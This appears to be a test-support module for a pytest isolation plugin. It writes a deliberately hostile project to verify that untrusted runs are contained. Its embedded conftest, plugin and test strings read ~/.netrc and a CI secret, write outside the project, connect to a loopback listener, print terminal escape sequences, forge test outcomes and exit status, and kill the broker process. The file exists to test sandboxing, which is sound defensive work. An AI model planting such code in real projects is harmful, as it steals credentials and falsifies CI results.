"""A hostile project and the runs of it: one normal (attacks succeed), one untrusted.

The project attacks from every place pytest runs project code: its
conftest.py at import, a test module at import, a plugin named in its ini
(``-p evilplug`` with ``pythonpath = .``), a ``pytest_collection_modifyitems``
hook, its tests, and hooks that forge the outcome. Each attack leaves
evidence on the host when it works: a file in ``outside/`` (a host directory
next to the project), a connection to a listener on the host's loopback,
the secret in the output, escape sequences in the output, a killed broker.

pytest before 8.4 applies the ini's ``pythonpath`` only after it has imported
the ``-p`` plugins (pytest's pull request 12536 moved it first), so there the
project names its plugin from its conftest instead, as a project on such a
pytest would.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from loopback_listener import LoopbackListener, loopback_listener
from project_runner import FRONT_DOOR, PYTEST, ProjectRun, run_pytest, write_project

IMAGE = "pytest-isolate/debian:bookworm"
SECRET = "ci-secret-7f3a9c"
NETRC_TOKEN = "netrc-token-51e0b2"
ESCAPES = ("\x1b]0;pwned\x07", "\x1b[2J")
#: Whether the ini's ``pythonpath`` reaches ``-p`` plugins (pytest 8.4 and later).
PYTHONPATH_BEFORE_PLUGINS = tuple(map(int, pytest.__version__.split(".")[:2])) >= (8, 4)

# Every attack records itself with this helper (written into each file so
# each is self-contained; errors are swallowed so the next attack still runs).
_EVIDENCE = """
import os, pathlib
OUTSIDE = {outside!r}
def evidence(name, text="x"):
    try:
        pathlib.Path(OUTSIDE, name).write_text(text)
        return True
    except OSError:
        return False
def steal():
    netrc = ""
    try:
        netrc = pathlib.Path(os.path.expanduser("~/.netrc")).read_text()
    except OSError:
        pass
    return os.environ.get("CI_SECRET", "") + " " + netrc
"""

CONFTEST = """
{evidence}
import pytest
evidence("conftest-imported", steal())
{plugins}
print("conftest stole:", steal())

def pytest_collection_modifyitems(items):
    evidence("modifyitems-ran")
    for item in items:
        # try to loosen the untrusted limits through marks
        item.add_marker(pytest.mark.isolate("container", network=True, timeout=100000))

def pytest_runtest_logreport(report):
    # forge: a failing test shows as passed
    if report.failed and "test_fails_honestly" in report.nodeid:
        report.outcome = "passed"

def pytest_sessionfinish(session):
    session.exitstatus = 0  # forge: the run says all is well
"""

EVILPLUG = """
{evidence}
evidence("plugin-imported", steal())
"""

TEST_ATTACKS = """
{evidence}
import socket
import pytest
evidence("module-imported", steal())
PORT = {port}
PROJECT = {project!r}

def test_write_host():
    assert evidence("test-wrote-host")

def test_write_project():
    with open(PROJECT + "/pwned-by-test", "w") as fh:
        fh.write("x")

def test_read_secret():
    print("stolen:", steal())

def test_network():
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
        conn.sendall(b"pwned")

def test_escape_in_output():
    print("title \\x1b]0;pwned\\x07 clear \\x1b[2J")
    assert False, "message \\x1b]0;pwned\\x07\\x1b[2J"

# raw escapes in a node id, through public pytest only: the ini below turns
# pytest's own escaping of ids off
@pytest.mark.parametrize("x", [0], ids=["\\x1b]0;pwned\\x07\\x1b[2J"])
def test_escape_in_name(x):
    pass

def test_fails_honestly():
    assert 1 == 2
"""

TEST_KILL = """
import os, signal
MARK = {base!r}

def test_kill_broker():
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = open(f"/proc/{{entry}}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if MARK in cmdline and "pytest" in cmdline:
            os.kill(int(entry), signal.SIGKILL)
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass
"""

INI = """
[pytest]
{addopts}
pythonpath = .
disable_test_id_escaping_and_forfeit_all_rights_to_community_support = true
"""


@dataclass(frozen=True)
class HostileRun(ProjectRun):
    """A run of the hostile project and the evidence its attacks left on the host."""

    evidence: set[str]  # the attacks that wrote their file in ``outside/``
    heard: list[bytes]  # what reached the host's loopback listener
    project_written: bool
    base_name: str  # in the command line of every process of the run: finds leftovers


@dataclass
class HostileProject:
    base: Path
    listener: LoopbackListener

    @property
    def project(self) -> Path:
        return self.base / "project"

    @property
    def outside(self) -> Path:
        return self.base / "outside"

    def evidence(self) -> set[str]:
        return {p.name for p in self.outside.iterdir()}

    def reset(self) -> None:
        for path in self.outside.iterdir():
            path.unlink()
        (self.project / "pwned-by-test").unlink(missing_ok=True)
        self.listener.received.clear()

    def run(self, *args: str, front_door: bool = False) -> HostileRun:
        """A broker over the project (cwd = project, as a CI job runs it), and what it left.

        Its environment is only what a CI job would give: a PATH, a HOME with
        a .netrc, a secret. Evidence of an earlier run is cleared first.
        """
        self.reset()
        env = {"PATH": os.environ["PATH"], "HOME": str(self.base / "home"), "CI_SECRET": SECRET}
        # "normally" is plain pytest, as the project's own CI would run it.
        command, plugins = (FRONT_DOOR, ()) if front_door else (PYTEST, ("-p", "no:isolate"))
        run = run_pytest(
            self.project,
            *plugins,
            "--color=no",
            *args,
            str(self.project),
            command=command,
            env=env,
            inherit_env=False,
        )
        return HostileRun(
            run.ret,
            run.output,
            run.seconds,
            evidence=self.evidence(),
            heard=list(self.listener.received),
            project_written=(self.project / "pwned-by-test").exists(),
            base_name=self.base.name,
        )


@contextlib.contextmanager
def hostile_project() -> Iterator[HostileProject]:
    """The project under /var/tmp (the vm layer hides /tmp), removed afterwards."""
    base = Path(tempfile.mkdtemp(prefix="ut-hostile-", dir="/var/tmp"))
    base.chmod(0o755)
    try:
        with loopback_listener() as listener:
            project = base / "project"
            for directory in (project, base / "outside", base / "home"):
                directory.mkdir()
            (base / "home" / ".netrc").write_text(f"machine ci login bot password {NETRC_TOKEN}\n")
            evidence = _EVIDENCE.format(outside=str(base / "outside"))
            files = {
                "conftest.py": CONFTEST.format(
                    evidence=evidence,
                    plugins="" if PYTHONPATH_BEFORE_PLUGINS else 'pytest_plugins = ["evilplug"]',
                ),
                "evilplug.py": EVILPLUG.format(evidence=evidence),
                "test_attacks.py": TEST_ATTACKS.format(
                    evidence=evidence, port=listener.port, project=str(project)
                ),
                "test_zz_kill.py": TEST_KILL.format(base=base.name),
                "pytest.ini": INI.format(
                    addopts="addopts = -p evilplug" if PYTHONPATH_BEFORE_PLUGINS else ""
                ),
            }
            write_project(project, files)
            yield HostileProject(base, listener)
    finally:
        shutil.rmtree(base, ignore_errors=True)
